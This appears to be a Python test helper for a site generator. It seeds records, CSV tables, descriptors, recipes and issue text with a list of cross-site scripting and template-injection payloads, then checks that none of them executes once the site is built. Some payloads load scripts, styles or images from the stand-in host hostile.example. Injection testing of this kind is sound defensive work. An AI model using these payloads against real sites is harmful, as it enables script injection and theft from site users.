"""Hostile text in every field that takes text: records, stories, tables, descriptors, recipes, issues and what is said of pictures.

A field either refuses a text or holds it; what is held is built and opened in a browser, where none of it may do anything.
"""

import csv
import io
import json
from collections.abc import Callable, Iterator, Sequence
from hashlib import sha256
from itertools import cycle
from pathlib import Path
from typing import Any

import yaml
from pydantic import BaseModel, ValidationError

from generator.catalog import Catalog
from generator.forms import KINDS
from generator.incoming import incoming
from generator.issue_text import read_issue
from generator.load import load
from generator.load.folders import FOLDERS
from generator.model.indicator import Indicator
from generator.model.recipe import Recipe
from generator.names import Names
from generator.reading import strict_yaml
from generator.reading.markdown_file import split
from generator.reading.packages import read_package
from generator.reading.source import Fault
from tests.drawn import drawing, put, saved
from tests.support import TODAY

RUNS = "window.beaconRan=1"
ELSEWHERE = "hostile.example"
PAYLOADS = (
    f'"><script>{RUNS}</script>',
    f"'><img src=x onerror={RUNS}>",
    f"<svg onload={RUNS}><a xlink:href=javascript:{RUNS}>x</a></svg>",
    f"[x](javascript:{RUNS}) [y](JaVaScRiPt&colon;{RUNS}) <javascript:{RUNS}>",
    f"javascript:{RUNS}//",
    f"</script><script>{RUNS}</script></title></textarea></style>",
    f"--><script src=https://{ELSEWHERE}/x.js></script><!--",
    f"![x](https://{ELSEWHERE}/x.png) <img src=//{ELSEWHERE}/y.png>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/x.css><base href=//{ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url=https://{ELSEWHERE}/'>",
    "<iframe srcdoc='<script>parent.beaconRan=1</script>'></iframe>",
    f'" autofocus onfocus={RUNS} x="',
    f"<style>*{{background:url(//{ELSEWHERE}/z)}}</style>",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "<!-- beacon:standings -->\\u003cscript\\u003e&lt;script&gt;",
    f"<form action=//{ELSEWHERE}/><input name=q><button formaction=javascript:{RUNS}>",
    f"https://a.b/'onclick='{RUNS}",
    f"data:text/html,<script>{RUNS}</script>",
    f"<math><mtext><style><img src=x onerror={RUNS}></style>",
    f"`<script>{RUNS}</script>` ~~~<b>bold</b>",
)


class _Plain(yaml.SafeLoader):
    """Reads words and days as they are written."""

    yaml_implicit_resolvers = {  # noqa: RUF012 what the base class calls it
        first: [(tag, pattern) for tag, pattern in found if tag.rsplit(":", 1)[1] not in {"bool", "timestamp"}]
        for first, found in yaml.SafeLoader.yaml_implicit_resolvers.items()
    }


Held = dict[str, list[tuple[Any, ...]]]
"""By file, where it holds a hostile text."""


def spoil(root: Path) -> Held:
    """Put hostile text wherever a library takes text; says where it is held. All records can still be read."""
    put(root, "practices/test-lamps", "circles.jpg", saved(drawing()))
    put(root, "cities/exampleton", "circles.jpg", saved(drawing()))
    held: Held = {}
    for folder in FOLDERS:
        for file in sorted((root / folder.path).glob(folder.pattern)):
            held[file.relative_to(root).as_posix()] = _record(file, folder.model)
    for file in sorted((root / "datasets").rglob("*.csv")):
        held[file.relative_to(root).as_posix()] = _table(root, file)
    for file in sorted((root / "datasets").glob("*/datapackage.json")):
        held[file.relative_to(root).as_posix()] = _descriptor(root, file)
    held[f"{PACKAGE}/source/recipe.yaml"] = _recipe(root)
    return held


def _record(file: Path, kind: type[BaseModel]) -> list[tuple[Any, ...]]:
    source = file.read_text(encoding="utf-8")
    story = source.startswith("---\n")
    _, head, body = source.split("---\n", 2) if story else ("", source, "")
    data = yaml.load(head, _Plain)  # noqa: S506 a safe loader

    def sound() -> bool:
        try:
            kind.model_validate(strict_yaml.load(json.dumps(data).encode()))
        except ValidationError:
            return False
        return True

    held = list(_exchange(data, sound))
    written = json.dumps(data, ensure_ascii=False, indent=1)
    hostile = "\n\n".join((*PAYLOADS, *(f"## {text}" for text in PAYLOADS), *(f"- {text}" for text in PAYLOADS)))
    table = "\n\n| a | b |\n|---|---|\n" + "".join(f"| {text.replace('|', '')} | x |\n" for text in PAYLOADS)
    block = "\n\n```chart\n" + PAYLOADS[0] + "\n```\n\n```\n" + PAYLOADS[5] + "\n```\n"
    file.write_text(f"---\n{written}\n---\n{body}\n{hostile}{table}{block}" if story else written, encoding="utf-8")
    return held


def _exchange(data: Any, sound: Callable[[], bool]) -> Iterator[tuple[Any, ...]]:
    """Exchange each text of plain data for a hostile one, and take it back where `sound` says that it is refused."""
    turns = cycle(PAYLOADS)
    for at, holder, key in list(_texts(data, ())):
        if at[:1] in {("status",), ("citations",)} and at[-1] in {"status", "id"}:
            continue
        before = holder[key]
        for _ in range(3):  # one that is refused for its quotation marks may pass without
            holder[key] = next(turns)
            if sound():
                yield at
                break
            holder[key] = before


def _texts(data: Any, at: tuple[Any, ...]) -> Iterator[tuple[tuple[Any, ...], Any, Any]]:
    steps: Sequence[Any] = list(data) if isinstance(data, dict) else range(len(data)) if isinstance(data, list) else ()
    for step in steps:
        if isinstance(data[step], str):
            yield (*at, step), data, step
        yield from _texts(data[step], (*at, step))


_FREE = ("title", "description", "basis", "synonyms", "name", "note", "local_name", "url")


def _table(root: Path, file: Path) -> list[tuple[Any, ...]]:
    """Columns of free text, where the package can still be read: without the last ones when those are refused."""
    folder = file.parent.relative_to(root).as_posix()
    before = file.read_bytes()
    rows = list(csv.reader(io.StringIO(before.decode("utf-8"), newline="")))
    for free in (_FREE, _FREE[:-1]):
        columns = [at for at, name in enumerate(rows[0]) if name in free]
        if not columns:
            return []
        turns = cycle(PAYLOADS)
        changed = [
            [f"{next(turns)} {n}" if at in columns else cell for at, cell in enumerate(row)]
            for n, row in enumerate(rows[1:])
        ]
        out = io.StringIO()
        csv.writer(out, lineterminator="\n").writerows([rows[0], *changed])
        file.write_text(out.getvalue(), encoding="utf-8")
        if read_package(root, folder)[0] is not None:
            return [(rows[0][at],) for at in columns]
    file.write_bytes(before)
    return []


_TOLD = ("title", "description", "version")


def _descriptor(root: Path, file: Path) -> list[tuple[Any, ...]]:
    """What a descriptor says: the part that is ours field by field, and the titles and descriptions of all others."""
    data = json.loads(file.read_bytes())
    before = file.read_bytes()

    def sound() -> bool:
        try:
            Indicator.model_validate(strict_yaml.load(json.dumps(data["beacon"]).encode()))
        except ValidationError:
            return False
        return True

    held = list(_exchange(data["beacon"], sound)) if "beacon" in data else []
    turns = cycle(PAYLOADS)
    for at, holder, key in list(_texts({k: v for k, v in data.items() if k != "beacon"}, ())):
        if at[-1] in _TOLD and len(at) > 1:
            holder[key] = next(turns)
            held.append(at)
    data["title"] = data["description"] = PAYLOADS[0]
    file.write_text(json.dumps(data, indent=1), encoding="utf-8")
    if read_package(root, file.parent.relative_to(root).as_posix())[0] is None:
        file.write_bytes(before)
        return []
    return held


PACKAGE = "datasets/test-robbery-rate"


def _recipe(root: Path) -> list[tuple[Any, ...]]:
    """A recipe for a package that has none, and a raw table with a column that the table does not take."""
    package = root / PACKAGE
    (package / "source").mkdir()
    header, *rows = list(csv.reader(io.StringIO((package / "data.csv").read_text(encoding="utf-8"), newline="")))
    turns = cycle(PAYLOADS)
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([[*header, "said"], *([*row, next(turns)] for row in rows)])
    raw = out.getvalue().encode()
    (package / "source/raw.csv").write_bytes(raw)
    data: dict[str, Any] = {
        "file": "raw.csv", "sha256": sha256(raw).hexdigest(), "taken": "2026-11-22", "origin": "x", "changes": ["x"],
        "columns": {name: name for name in header}, "left_out_because": "x", "note": "x",
        "keep": {"place_id": sorted({row[0] for row in rows})}, "replace": {"status": {"x": "x"}},
    }  # fmt: skip
    said = {name: data[name] for name in ("origin", "changes", "left_out_because", "note", "replace")}

    def sound() -> bool:
        try:
            Recipe.model_validate(strict_yaml.load(json.dumps(data | said).encode()))
        except ValidationError:
            return False
        return True

    held = list(_exchange(said, sound))
    (package / "source/recipe.yaml").write_text(json.dumps(data | said, indent=1), encoding="utf-8")
    return held


def spoiled_issue(kind: str, text: str, catalog: Catalog) -> tuple[str, list[str]]:
    """An issue's text with a hostile text in each answer whose field takes one, and those answers."""
    names, lines, held = Names(catalog), text.split("\n"), []
    turns = cycle(PAYLOADS)

    def sound() -> bool:
        given, story, _ = read_issue(kind, "\n".join(lines), names)
        made = incoming(kind, given, catalog, "issue", story)
        source = made.text.encode()
        try:
            KINDS[kind].model_validate(split(source).data if kind == "city" else strict_yaml.load(source))
        except (Fault, ValidationError):
            return False
        return bool(made.id)

    for at, line in enumerate(lines):
        label, colon, _ = line.partition(": ") if line[:1].isupper() else ("", "", "")
        if not line or line.startswith(("#", "Key:", "Study:", "- [X]")):
            continue
        for _ in range(3):
            lines[at] = f"{label}{colon}{next(turns)}"
            if sound():
                held.append(line)
                break
            lines[at] = line
    return "\n".join(lines), held


def is_whole(root: Path) -> bool:
    """Whether every record of a spoilt library is still there."""
    catalog = load(root, TODAY).catalog
    return bool(catalog.practices and catalog.cities and catalog.lessons and catalog.indicators) and not catalog.broken
